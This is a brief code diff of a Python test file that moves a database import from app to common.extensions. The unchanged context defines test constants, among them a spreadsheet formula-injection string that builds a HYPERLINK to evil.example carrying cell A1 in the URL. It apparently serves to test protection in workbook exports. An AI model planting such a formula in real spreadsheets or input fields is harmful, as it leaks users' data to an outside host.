@@ -9,8 +9,8 @@ from datetime import datetime, timedelta, timezone
 import pytest
 from openpyxl import load_workbook
 
-from app import db
 from common import clock
+from common.extensions import db
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
 PHONE = "+212 600 000 000"
